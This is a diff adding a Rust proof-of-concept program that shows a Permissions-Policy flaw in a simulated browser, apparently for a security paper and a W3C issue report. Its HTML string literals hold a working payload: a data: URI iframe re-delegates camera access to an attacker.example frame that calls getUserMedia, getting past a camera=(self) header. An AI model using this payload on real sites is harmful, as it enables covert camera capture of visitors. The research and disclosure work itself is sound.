@@ -1,0 +1,78 @@
+//! Proof of concept for the §6.2 specification issue (Table 11), plus the
+//! Table 1 delegation matrix, run both at the policy-engine level and
+//! end-to-end through the simulated browser.
+//!
+//! ```sh
+//! cargo run --release --example spec_issue_poc
+//! ```
+
+use browser::{Browser, BrowserConfig};
+use netsim::{ContentProvider, ProviderResult, Response, SimClock, SimNetwork, SiteBehavior};
+use permissions_odyssey::prelude::*;
+use policy::engine::LocalSchemeBehavior;
+
+/// A two-host web: the victim declares `camera=(self)` and embeds a
+/// `data:` document that re-delegates camera to the attacker.
+struct PocWeb;
+
+impl ContentProvider for PocWeb {
+    fn resolve(&self, url: &Url) -> ProviderResult {
+        let response = match url.host() {
+            Some("victim.example") => Response::html(
+                url.clone(),
+                r#"<iframe src="data:text/html,<iframe src='https://attacker.example/' allow='camera'></iframe>"></iframe>"#,
+            )
+            .with_header("Permissions-Policy", "camera=(self)"),
+            Some("attacker.example") => Response::html(
+                url.clone(),
+                r#"<script>navigator.mediaDevices.getUserMedia({video: true});</script>"#,
+            ),
+            _ => return ProviderResult::DnsFailure,
+        };
+        ProviderResult::Content {
+            response,
+            behavior: SiteBehavior::default(),
+        }
+    }
+}
+
+fn main() {
+    println!("{}", tools::poc::render_delegation_matrix());
+    println!("{}", tools::poc::render_local_scheme_issue());
+
+    println!("end-to-end through the simulated browser:");
+    for (behavior, label) in [
+        (LocalSchemeBehavior::FreshPolicy, "actual spec/Chromium"),
+        (LocalSchemeBehavior::InheritParent, "expected"),
+    ] {
+        let mut browser = Browser::new(
+            SimNetwork::new(PocWeb),
+            BrowserConfig {
+                local_scheme_behavior: behavior,
+                ..BrowserConfig::default()
+            },
+        );
+        let mut clock = SimClock::new();
+        let visit = browser
+            .visit(&Url::parse("https://victim.example/").unwrap(), &mut clock)
+            .expect("poc page loads");
+        let attacker = visit
+            .frames
+            .iter()
+            .find(|f| f.site.as_deref() == Some("attacker.example"))
+            .expect("attacker frame loaded via the data: document");
+        let capture = &attacker.invocations[0];
+        println!(
+            "  {label}: attacker getUserMedia {}",
+            if capture.policy_blocked {
+                "BLOCKED by policy ✗"
+            } else {
+                "SUCCEEDS — camera hijacked 🐞"
+            }
+        );
+    }
+    println!(
+        "\nThe header said camera=(self); a data: URI document must not be able to widen it.\n\
+         Reported to the W3C (webappsec-permissions-policy issue #552); unresolved as of the paper."
+    );
+}
